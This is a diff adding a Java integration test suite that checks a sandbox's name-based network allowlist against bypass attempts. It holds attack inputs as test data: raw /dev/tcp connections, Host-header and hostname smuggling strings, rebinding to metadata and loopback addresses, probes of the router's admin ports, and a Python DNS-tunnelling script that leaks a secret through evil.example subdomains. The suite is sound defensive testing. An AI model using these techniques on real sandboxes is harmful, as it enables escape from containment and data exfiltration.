@@ -1,0 +1,255 @@
+package dev.sandboxed.e2e.network;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dev.sandboxed.e2e.world.Launch;
+import dev.sandboxed.e2e.world.Outcome;
+import dev.sandboxed.e2e.world.OutcomeAssert;
+import java.util.List;
+import java.util.stream.Stream;
+import org.junit.jupiter.api.AfterAll;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.TestInstance;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.ValueSource;
+
+/**
+ * What gets past other tools that decide by name does not get past this one. Each way is first
+ * shown to work outside, and with a name that is allowed, inside.
+ */
+@TestInstance(TestInstance.Lifecycle.PER_CLASS)
+class AllowlistAttackIT {
+
+  private static final String CURL = "curl -sS -k ";
+
+  // Prints how many names have an address, of as many as it is told.
+  private static final String MANY_NAMES =
+      """
+      import socket, sys
+      print(sum(bool(socket.gethostbyname(f"n{number}.evil.example")) for number in range(int(sys.argv[1]))))
+      """;
+
+  // Asks as libresolv would, and prints the code and the number of answers.
+  private static final String ASK =
+      """
+      import socket, struct, sys
+      server = [line.split()[1] for line in open("/etc/resolv.conf") if line.startswith("nameserver")][0]
+      for word in sys.argv[1:]:
+          name, kind = word.split("/")
+          labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
+          asker = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+          asker.connect((server, 53))
+          asker.send(struct.pack(">6H", 7, 256, 1, 0, 0, 0) + labels + b"\\0" + struct.pack(">2H", int(kind), 1))
+          answer = asker.recv(4096)
+          print(word, "code", answer[3] & 15, "answers", struct.unpack(">H", answer[6:8])[0])
+      """;
+
+  private final NamedHosts hosts = new NamedHosts();
+
+  @AfterAll
+  void tearDown() {
+    hosts.close();
+  }
+
+  /** The address of a host that is allowed is that of many others, too. */
+  @Test
+  void aNameIsSaidCompletelyOrNotAtAll() {
+    String[] others = {
+      "plain:evil.example",
+      "none",
+      "bytes:good.example\\x00.evil.test",
+      "bytes:good.example.",
+      "bytes:.good.example",
+      "bytes:good..example",
+      "bytes:good.example\\x20",
+      "bytes:good.example@evil.test",
+      "bytes:%67ood.example",
+      "bytes:good\\x2eexample.evil",
+      "bytes:good.example\\x0aevil",
+      "bytes:*.good.example",
+      "packets:evil.example",
+      "records:good.example",
+    };
+    String[] allowed = {"plain:good.example", "bytes:GOOD.example", "packets:good.example"};
+    assertThat(
+            hosts.helloOutside("plain:evil.example", "packets:evil.example", "plain:good.example"))
+        .hasSize(3)
+        .allMatch(line -> line.endsWith("= answered"));
+    Launch launch = hosts.allowing("good.example");
+
+    assertThat(hosts.hello(launch, NamedHosts.ADDRESS, others))
+        .hasSameSizeAs(others)
+        .allMatch(line -> line.endsWith("! refused"));
+    assertThat(hosts.hello(launch, NamedHosts.ADDRESS, allowed))
+        .hasSameSizeAs(allowed)
+        .allMatch(line -> line.endsWith("= answered"));
+  }
+
+  /** Whatever address a program thinks it connects to, it gets to the name that it says. */
+  @Test
+  void anAddressIsNoName() {
+    String program =
+        "for url in https://203.0.113.7/ https://[2001:db8:ffff::7]/ http://203.0.113.7/ http://0xcb007107/; do "
+            + CURL
+            + "--http1.1 $url; done";
+    hosts.assertOutside(CURL + "http://203.0.113.7/", "http 203.0.113.7");
+    hosts.assertOutside(CURL + "https://203.0.113.7/", "tls");
+
+    Outcome inside = hosts.allowing("good.example").shell(program);
+
+    assertThat(inside.out()).doesNotContain("tls ", "http 203").contains("policy, not an outage");
+  }
+
+  /** The Host of a request counts for HTTP, whatever the request line says. */
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "GET http://evil.example/ HTTP/1.1\\r\\nHost: evil.example",
+        "GET / HTTP/1.1\\r\\nHost: evil.example\\r\\nHost: good.example",
+        "GET / HTTP/1.1\\r\\nHost: good.example\\r\\nHost: evil.example",
+        "GET / HTTP/1.1\\r\\nHost: good.example:8080",
+        "GET / HTTP/1.1\\r\\nHost: good.example.",
+        "GET / HTTP/1.1\\r\\nHost: good.example@evil.example",
+        "GET / HTTP/1.1\\r\\nHost:",
+        "GET / HTTP/1.0\\r\\nX: y",
+        "CONNECT evil.example:443 HTTP/1.1\\r\\nHost: evil.example:443",
+        "CONNECT good.example:443 HTTP/1.1\\r\\nHost: good.example:443"
+      })
+  void aRequestForAnotherHostIsRefused(String request) {
+    String program =
+        "exec 5<>/dev/tcp/%s/80; printf '%s\\r\\nConnection: close\\r\\n\\r\\n' >&5; cat <&5"
+            .formatted("good.example", request);
+    String harmless = program.replace(request, "GET / HTTP/1.1\\r\\nHost: good.example");
+    Launch launch = hosts.allowing("good.example");
+
+    assertThat(launch.command("bash", "-c", program).out()).doesNotContain("http ", " 200 ");
+    assertThat(launch.command("bash", "-c", harmless).out()).contains("http good.example");
+  }
+
+  /** A name may be registered by anybody, and lead anywhere. */
+  @ParameterizedTest
+  @CsvSource({
+    "private.example,  192.168.1.20",
+    "metadata.example, 169.254.169.254",
+    "loopback.example, 127.0.0.1",
+    "host.example,     192.168.1.5"
+  })
+  void aNameThatLeadsIntoABlockedNetworkIsRefused(String name, String address) {
+    Launch launch = hosts.allowing(name, "good.example", name + ":8000");
+
+    assertThat(launch.shell(CURL + "http://" + name + "/").out())
+        .contains("\"verdict\":\"blocked\"");
+    assertThat(launch.shell(CURL + "https://" + name + "/").exit()).isNotZero();
+    assertThat(launch.shell("bash -c 'cat </dev/tcp/" + name + "/8000'").out()).isEmpty();
+    assertThat(hosts.log())
+        .anyMatch(line -> line.contains(name) && line.contains("\"address\":\"" + address + "\""));
+    OutcomeAssert.assertThat(launch.shell(CURL + "https://good.example/")).succeeded();
+  }
+
+  /** The answer that was checked is the one that is used. */
+  @Test
+  void aNameThatTurnsToABlockedNetworkIsRefusedFromThenOn() {
+    String program =
+        "until "
+            + CURL
+            + "http://turning.example/ | tee -a said | grep -q blocked; do :; done; head -n 1 said";
+
+    OutcomeAssert.assertThat(hosts.allowing("turning.example").shell(program))
+        .succeeded()
+        .outContains("http turning.example");
+  }
+
+  /** Only TCP by name leaves the sandbox. */
+  @Test
+  void nothingElseLeaves() {
+    List<String> ways =
+        List.of(
+            "tcp,203.0.113.7,8000",
+            "udp,203.0.113.7,8000",
+            "icmp,203.0.113.7,0",
+            "tcp,192.168.1.20,8000",
+            "tcp,127.0.0.1,8001",
+            "dns-udp,203.0.113.53,53",
+            "dns-tcp,203.0.113.53,53",
+            "tcp,203.0.113.7,853",
+            "tcp,2001:db8:ffff::7,8000");
+    assertThat(
+            Probe.of(hosts.world, ways.stream().filter(way -> !way.contains("127.0.0.1")).toList())
+                .silences())
+        .isEmpty();
+
+    assertThat(Probe.inside(hosts.allowing("good.example"), ways).answers()).isEmpty();
+  }
+
+  /** A question is how data leaves other sandboxes. */
+  @Test
+  void noQuestionForANameLeaves() {
+    String secret = "the-secret-is-forty-two";
+    Launch launch = hosts.allowing("good.example", "*.good.example");
+
+    OutcomeAssert.assertThat(
+            launch.command(
+                python(
+                    ASK,
+                    secret + ".evil.example/1",
+                    secret + ".evil.example/16",
+                    secret + ".good.example/1",
+                    "good.example/28",
+                    "good.example/65",
+                    "good.example/64",
+                    "use-application-dns.net/1",
+                    "printer.local/1",
+                    "single/1",
+                    "1.0.0.127.in-addr.arpa/12")))
+        .outContains(secret + ".evil.example/1 code 0 answers 1")
+        .outContains(secret + ".evil.example/16 code 0 answers 0")
+        .outContains("good.example/28 code 0 answers 0")
+        .outContains("good.example/65 code 0 answers 0")
+        .outContains("good.example/64 code 0 answers 0")
+        .outContains("use-application-dns.net/1 code 3")
+        .outContains("printer.local/1 code 3")
+        .outContains("single/1 code 3")
+        .outContains("in-addr.arpa/12 code 3");
+    OutcomeAssert.assertThat(launch.shell(CURL + "https://last.good.example/")).succeeded();
+    hosts.heard("dns 1 last.good.example");
+    assertThat(hosts.said()).doesNotContain(secret);
+  }
+
+  @Test
+  void tenThousandNamesAreRefusedAndWrittenDown() {
+    Launch launch = hosts.allowing("good.example");
+
+    OutcomeAssert.assertThat(
+            launch.shell(
+                "/usr/bin/python3 -c \"$1\" 10000 && " + CURL + "https://good.example/",
+                MANY_NAMES))
+        .succeeded()
+        .outContains("10000")
+        .outContains("tls good.example");
+    assertThat(hosts.refusedNames())
+        .filteredOn(line -> line.contains(".evil.example\""))
+        .hasSizeGreaterThanOrEqualTo(10000);
+  }
+
+  /** The router is the sandbox's name server, and nothing else to it. */
+  @Test
+  void theSandboxCannotReachItsKeeper() {
+    Launch launch = hosts.allowing("good.example");
+    String admin = "find / -name '*.admin' 2>/dev/null; cat /proc/net/unix | grep -c admin";
+
+    assertThat(launch.shell(admin).out().strip()).isEqualTo("0");
+    assertThat(
+            launch
+                .shell(
+                    "for port in 9443 9980 9999 80 443; do bash -c \"echo x >/dev/tcp/10.0.2.1/$port; exec 5<>/dev/tcp/10.0.2.1/$port; echo show info >&5; cat <&5\"; done 2>/dev/null")
+                .out())
+        .doesNotContain("HAProxy", "Uptime");
+    OutcomeAssert.assertThat(launch.shell("echo x >>/run/sandboxed/denied.jsonl")).failed();
+  }
+
+  private static String[] python(String script, String... more) {
+    return Stream.concat(Stream.of("/usr/bin/python3", "-c", script), Stream.of(more))
+        .toArray(String[]::new);
+  }
+}
